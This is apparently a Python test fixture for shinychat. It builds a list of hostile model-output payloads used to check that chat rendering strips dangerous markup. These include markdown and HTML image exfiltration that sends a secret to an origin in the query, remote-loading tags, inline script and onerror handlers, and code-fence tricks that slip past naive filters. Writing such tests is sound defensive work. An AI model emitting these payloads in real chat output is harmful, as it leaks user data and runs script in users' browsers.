"""Hostile model text, written once for every path that hands model text to shinychat.

Each payload would make the browser fetch from ``origin`` (a path naming the payload,
the "secret" in its query) or run script (``window.__pwned``) if it became markup: the
exfiltration image, HTML that loads without ``<img>``, reference images, and fences
whose end the browser and a naive filter read differently. Every fence closes, so one
payload cannot hide the next inside code.
"""

from __future__ import annotations

SECRET = "s3cr3t"
# A fenced code block's content that must stay byte-exact: ``<`` in three ways.
CODE = 'x = "<"\nhtml = "<div>"\nif a<b: print(a)'
END = "END-OF-HOSTILE"


def hostile_payloads(origin: str) -> list[str]:
    """The payloads, each loading ``<origin>/<name>?q=<secret>`` were it markup."""
    o, q = origin, f"q={SECRET}"
    return [
        f"![x]({o}/md-image?{q})",  # the exfiltration image
        f"![x](<{o}/md-angle?{q}>)",
        f'![x]({o}/md-title?{q} "title")',
        f"![x][r1]\n\n[r1]: {o}/ref-full?{q}",  # reference images
        f"![r2]\n\n[r2]: {o}/ref-shortcut?{q}",
        f"![r3][]\n\n[r3]: {o}/ref-collapsed?{q}",
        f'<img src="{o}/html-img?{q}">',
        "<img src=x onerror=\"window.__pwned = 'onerror'\">",
        f'<img srcset="{o}/srcset?{q} 1x">',
        f'<picture><source srcset="{o}/picture?{q}"><img alt="p"></picture>',
        f'<video poster="{o}/video-poster?{q}"></video>',
        f'<audio src="{o}/audio?{q}" autoplay></audio>',
        f"<style>@import url({o}/style-import?{q});</style>",
        f'<div style="background-image: url({o}/style-attr?{q})">styled</div>',
        f'<link rel="stylesheet" href="{o}/link?{q}">',
        f'<iframe src="{o}/iframe?{q}"></iframe>',
        "<iframe srcdoc=\"<script>parent.__pwned = 'srcdoc'</script>\"></iframe>",
        f'<object data="{o}/object?{q}"></object>',
        f'<embed src="{o}/embed?{q}">',
        f'<input type="image" src="{o}/input-image?{q}">',
        f'<svg><image href="{o}/svg-image?{q}"></image></svg>',
        f'<table background="{o}/table-background?{q}"><tr><td>t</td></tr></table>',
        "<script>window.__pwned = 'script'</script>",
        # Fence variants: closed where markdown closes them, then markup outside.
        f"~~~\ncode\n~~~\n<img src='{o}/after-tilde-fence?{q}'>",
        f"```\ncode\n  ```\n<img src='{o}/after-indented-close?{q}'>",
        f"- item\n  ```\n<img src='{o}/list-fence?{q}'>\n  ```",
        f"```\n<thinking>\n<img src='{o}/thinking?{q}'>\n</thinking>\n```",
        f"\\`<img src='{o}/escaped-tick?{q}'>` end",
    ]


def hostile_text(origin: str) -> str:
    """All the payloads as one markdown message, ending with :data:`END`."""
    return "\n\n".join(["HOSTILE START", *hostile_payloads(origin), END])
